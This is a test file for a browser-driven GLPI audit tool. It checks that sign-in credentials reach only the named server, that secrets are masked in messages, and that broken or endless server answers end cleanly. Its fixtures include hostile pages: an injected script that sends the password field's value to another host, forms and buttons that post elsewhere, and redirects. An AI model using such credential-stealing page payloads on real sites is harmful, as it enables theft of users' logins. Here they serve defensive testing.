import { createServer, type IncomingMessage, type Server, type ServerResponse } from "node:http";
import type { AddressInfo } from "node:net";
import { gzipSync } from "node:zlib";
import { afterAll, afterEach, beforeAll, expect, test } from "vitest";
import { runSteps } from "../../src/audit/pages.ts";
import { Audit, type AuditOptions, atRest } from "../../src/audit/run.ts";
import { signIn } from "../../src/audit/sign-in.ts";
import { loadTheme } from "../../src/theme/theme.ts";
import { parseAddress } from "../../src/util/address.ts";
import { covered, forgetSecrets, keepSecret, withoutSecrets } from "../../src/util/secrets.ts";
import { type LaunchedBrowser, launchBrowser } from "../../src/visual/browser.ts";
import { listenBeside, type Neighbour } from "../helpers/neighbour.ts";

/*
 * A server that is no GLPI, or one that somebody took over: where a password goes, and what a run makes of answers
 * without end.
 */

const user = "anna";
const password = 'p@ss "w<rd>&ü9';

let launched: LaunchedBrowser;
let beside: Neighbour;
let server: Server;
let address: string;
/** What was posted to the server. */
const posted: string[] = [];
/** How the server answers at its sign-in page. */
let login: (request: IncomingMessage, response: ServerResponse) => void;

const html = (body: string): string =>
  `<!doctype html><html lang="en"><head><title>x</title></head><body>${body}</body></html>`;
const form = (action: string, more = ""): string =>
  html(
    `<form action="${action}" method="post" ${more}><input id="login_name" name="a1"><input type="password" name="b2"><input type="hidden" name="token" value="t"><button type="submit" name="submit" value="1">Sign in</button></form>`,
  );
const page = (response: ServerResponse, body: string, headers = {}): void =>
  void response.writeHead(200, { "content-type": "text/html; charset=utf-8", ...headers }).end(body);

beforeAll(async () => {
  beside = await listenBeside();
  server = createServer((request, response) => {
    const path = new URL(request.url ?? "/", "http://x").pathname;
    request.on("error", () => undefined);
    response.on("error", () => undefined);
    if (request.method === "POST") {
      let body = "";
      request.on("data", (chunk) => {
        body += chunk;
      });
      request.on("end", () => {
        posted.push(body);
        if (path === "/moved") response.writeHead(307, { location: `http://127.0.0.1:${beside.port}/stolen` }).end();
        else if (path === "/refused") page(response, form("/refused"));
        else
          response
            .writeHead(302, { location: "/front/central.php", "set-cookie": "session=1; path=/; HttpOnly" })
            .end();
      });
      return;
    }
    if (path === "/index.php") return login(request, response);
    if (path === "/endless") {
      response.writeHead(200, { "content-type": "text/html" });
      const more = (): void => {
        while (!response.destroyed && response.write("<p>more</p>".repeat(10_000)));
        if (!response.destroyed) response.once("drain", more);
      };
      return more();
    }
    if (path === "/loop") return void response.writeHead(302, { location: `/loop?${Math.random()}` }).end();
    if (path === "/hangs")
      return page(
        response,
        html("<script>addEventListener('load', () => setTimeout(() => { for (;;); }, 50))</script>"),
      );
    if (path === "/silent") return;
    if (path === "/breaks") {
      response.writeHead(200, { "content-type": "text/html", "content-length": 99 }).write("<");
      setTimeout(() => response.destroy(), 20);
      return;
    }
    if (path === "/reloads") return page(response, html("<script>location.reload()</script>"));
    if (path === "/front/central.php")
      return page(
        response,
        html(
          `<header class="navbar"></header><nav id="navbar-menu">${Array.from({ length: 10_000 }, (_, index) => `<a href="/front/x${index}.php">x</a>`).join("")}</nav>`,
        ),
      );
    if (path === "/packed")
      return void response
        .writeHead(200, { "content-type": "text/html", "content-encoding": "gzip" })
        .end(gzipSync(html('<button class="btn">Packed</button>')));
    page(response, html('<button class="btn">Save</button>'));
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  address = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  launched = await launchBrowser({ network: true });
});
afterEach(() => {
  posted.length = 0;
  beside.seen.length = 0;
  forgetSecrets();
});
afterAll(async () => {
  await launched?.close();
  server?.closeAllConnections();
  server?.close();
  await beside?.close();
});

const attempt = (): Promise<unknown> =>
  signIn(launched.browser, address, { user, password }, "the user of GLPI_USER").then(
    (session) => session.map(({ name, domain }) => `${name} ${domain}`),
    (error: Error) => error.message,
  );

test("user and password are posted to GLPI, and its session comes back for that host alone", async () => {
  login = (_, response) => page(response, form("/front/login.php"));
  expect(await attempt()).toEqual(["session 127.0.0.1"]);
  expect(Object.fromEntries(new URLSearchParams(posted[0]))).toEqual({
    a1: user,
    b2: password,
    token: "t",
    submit: "1",
  });
});

const traps: [
  name: string,
  answer: (other: string) => (request: IncomingMessage, response: ServerResponse) => void,
  says: RegExp,
  reaches: number,
][] = [
  [
    "a sign-in page that lies elsewhere",
    (other) => (_, response) => void response.writeHead(302, { location: `${other}/index.php` }).end(),
    /leads to http:\/\/127.*, which was given nothing/,
    0,
  ],
  [
    "a form that posts elsewhere",
    (other) => (_, response) => page(response, form(`${other}/login`)),
    /would send user and password to http/,
    0,
  ],
  [
    "a base that leads elsewhere",
    (other) => (_, response) => page(response, form("login").replace("<title>", `<base href="${other}/"><title>`)),
    /would send user and password to http/,
    0,
  ],
  [
    "an answer that passes the form on",
    () => (_, response) => page(response, form("/moved")),
    /leads to http:\/\/127.*, which was given nothing/,
    1,
  ],
  [
    "a form in another window",
    () => (_, response) => page(response, form("/moved", 'target="_blank"')),
    /leads to|refused/,
    1,
  ],
  [
    "a form that shows what it sends",
    (other) => (_, response) => page(response, form(other).replace('method="post"', 'method="get"')),
    /would send|no login form/,
    0,
  ],
  [
    "a script that reads the field",
    (other) => (_, response) =>
      page(
        response,
        `${form("/refused")}<script>setInterval(() => new Image().src = "${other}/?" + document.querySelector("[type=password]").value, 1)</script>`,
      ),
    /GLPI refused/,
    1,
  ],
  [
    "a button that sends elsewhere",
    (other) => (_, response) =>
      page(response, form("/refused").replace("<button", `<button formaction="${other}/login"`)),
    /GLPI refused/,
    1,
  ],
  [
    "a page that leads elsewhere by itself",
    (other) => (_, response) =>
      page(response, `${form("/refused")}<meta http-equiv="refresh" content="0;url=${other}/">`),
    /GLPI refused|leads to/,
    1,
  ],
  [
    "a frame that asks instead",
    (other) => (_, response) => page(response, html(`<iframe src="${other}/index.php"></iframe>`)),
    /leads to|no login form/,
    0,
  ],
];

test.each(traps)("%s is told neither user nor password", async (_, answer, says, reaches) => {
  login = answer(`http://127.0.0.1:${beside.port}`);
  const said = String(await attempt());
  expect(said).toMatch(says);
  expect(said).not.toContain(password);
  expect(said).not.toContain(user);
  expect(beside.seen).toEqual([]);
  // What reached the GLPI that was named, and was meant for it.
  expect(posted.length).toBeLessThanOrEqual(reaches);
});

test("whatever a server sends ends in a line, and the run goes on", { timeout: 240_000 }, async () => {
  const lines: string[] = [];
  const paths = ["endless", "loop", "hangs", "silent", "breaks", "reloads", "packed", "plain"];
  const options: AuditOptions = {
    ...atRest,
    theme: loadTheme("windows-11"),
    list: { users: {}, pages: paths.map((id) => ({ id, url: `/${id}`, user: "anonymous", settle: 0 })) },
    source: { url: address },
    width: 800,
    limits: { document: 2_000_000, load: 4000, whole: 12_000 },
    progress: (line) => void lines.push(line),
  };
  const { pages } = await new Audit(launched.browser, options).run();
  const errors = Object.fromEntries(pages.map(({ id, error }) => [id, error]));
  expect(errors["endless"]).toMatch(/a page is larger than 1.9 MB/);
  expect(errors["loop"]).toMatch(/ERR_TOO_MANY_REDIRECTS/);
  expect(errors["hangs"]).toMatch(/takes longer than 12 s|Timeout/);
  expect(errors["silent"]).toMatch(/Timeout 4000ms/);
  expect(errors["breaks"]).toMatch(/broke off after 1 of 99 bytes/);
  expect(errors["packed"]).toBeUndefined();
  expect(errors["plain"]).toBeUndefined();
  expect(pages.at(-1)?.roles["Button"] ?? pages.at(-1)?.roles).not.toEqual({});
  expect(lines).toHaveLength(paths.length);
  expect(lines.join("\n")).not.toContain("    at ");
});

test("ten thousand links are so many as were asked for", { timeout: 60_000 }, async () => {
  login = (_, response) => page(response, form("/front/login.php"));
  process.env.GLPI_USER = user;
  process.env.GLPI_PASSWORD = password;
  const lines: string[] = [];
  try {
    const audit = new Audit(launched.browser, {
      ...atRest,
      theme: undefined,
      list: { users: {}, pages: [] },
      source: { url: address },
      width: 800,
      crawl: true,
      limit: 2,
      progress: (line) => void lines.push(line),
    });
    const { pages } = await audit.run();
    expect(pages).toHaveLength(2);
    expect(lines[0]).toBe("2000 links, of which the first 2 are examined");
  } finally {
    delete process.env.GLPI_USER;
    delete process.env.GLPI_PASSWORD;
  }
});

test("a step's failure says what it did, not what it typed", { timeout: 60_000 }, async () => {
  const context = await launched.browser.newContext();
  const opened = await context.newPage();
  await opened.goto(address);
  const secret = "hunter2-hunter2";
  const steps = [
    { do: "eval" as const, js: `${secret}.x` },
    { do: "goto" as const, url: `:0/?token=${secret}` },
    { do: "press" as const, key: secret },
    { do: "fill" as const, sel: "button", text: secret },
  ];
  for (const step of steps) {
    const said = await runSteps(opened, [step], address).then(
      () => "done",
      (error: Error) => error.message,
    );
    expect(said).toMatch(/^step 1 \(/);
    expect(said).not.toContain(secret);
  }
  await opened.setContent('<input type="password" id="field"><p></p>');
  await runSteps(opened, [{ do: "fill", sel: "#field", text: secret }], address);
  expect(withoutSecrets(`shown again: ${secret}, ${encodeURIComponent(secret)}`)).toBe(
    `shown again: ${covered}, ${covered}`,
  );
  await context.close();
});

test("a secret is covered in every way it is written", () => {
  keepSecret(password);
  for (const form of [
    password,
    encodeURIComponent(password),
    new URLSearchParams({ p: password }).toString(),
    JSON.stringify(password),
    password.replaceAll("&", "&amp;").replaceAll("<", "&lt;").replaceAll(">", "&gt;").replaceAll('"', "&quot;"),
    Buffer.from(password).toString("base64"),
  ]) {
    expect(withoutSecrets(form)).toContain(covered);
    expect(withoutSecrets(form)).not.toMatch(/p@ss|p%40ss|w<rd|w&lt;rd/);
  }
  keepSecret("glpi");
  expect(withoutSecrets("GLPI 10 under /glpi")).toBe("GLPI 10 under /glpi");
});

test("an address is read without its user, and what is none is not repeated", () => {
  expect(parseAddress("https://anna:s3cret%21x@glpi.example/glpi/#x", "--url")).toEqual({
    url: "https://glpi.example/glpi",
    origin: "https://glpi.example",
    user: "anna",
    password: "s3cret!x",
  });
  for (const text of ["anna:s3cret@glpi", "ftp://anna:s3cret@glpi.example", "http://anna:s3cret@", "http://[s3cret"])
    expect(() => parseAddress(text, "--url")).toThrow(/^--url is no address\. Write it as/);
});
